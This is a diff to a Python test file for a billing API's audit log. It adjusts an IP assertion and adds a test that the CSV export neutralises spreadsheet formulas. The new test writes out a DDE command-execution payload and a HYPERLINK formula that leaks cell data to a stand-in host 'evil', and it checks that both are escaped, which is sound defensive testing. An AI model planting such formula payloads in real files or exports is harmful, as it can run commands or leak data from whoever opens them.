@@ -137,7 +137,8 @@ async def test_a_billing_keys_topup_is_audited_with_its_balance(app: Any) -> Non
     assert last["object"] == "audit_entry" and last["id"].startswith("aud_")
     assert (last["key_id"], last["key_kind"]) == (billing["id"], "billing")
     assert last["idempotency_key"] == "pay-2" and last["request_id"] == request_id
-    assert last["ip"] and last["target_id"].startswith("txn_")
+    assert last["ip"] is None  # the test client's host ("testclient") is not an address
+    assert last["target_id"].startswith("txn_")
     # A replayed top-up changes nothing and adds no entry.
     r = await app.post(
         f"/v1/customers/{cus['id']}/wallet/topup",
@@ -248,3 +249,17 @@ async def test_the_audit_log_cannot_be_changed_through_the_api(app: Any) -> None
     for method in ("POST", "PATCH", "PUT", "DELETE"):
         r = await app.request(method, "/v1/audit_log", headers=admin())
         assert r.status_code == 405, (method, r.status_code)
+
+
+async def test_the_audit_csv_neutralises_formulas(app: Any) -> None:
+    r = await app.post(
+        "/v1/customers",
+        json={"external_id": unique_id("f"), "name": "=cmd|'/c calc'!A1"},
+        headers=admin({"Idempotency-Key": '=HYPERLINK("http://evil/?x="&A1,"click")'}),
+    )
+    assert r.status_code == 201
+    r = await app.get("/v1/audit_log", headers=admin({"Accept": "text/csv"}))
+    rows = list(csv.reader(io.StringIO(r.text)))
+    key_cell = rows[1][rows[0].index("idempotency_key")]
+    assert key_cell.startswith("'=HYPERLINK")
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
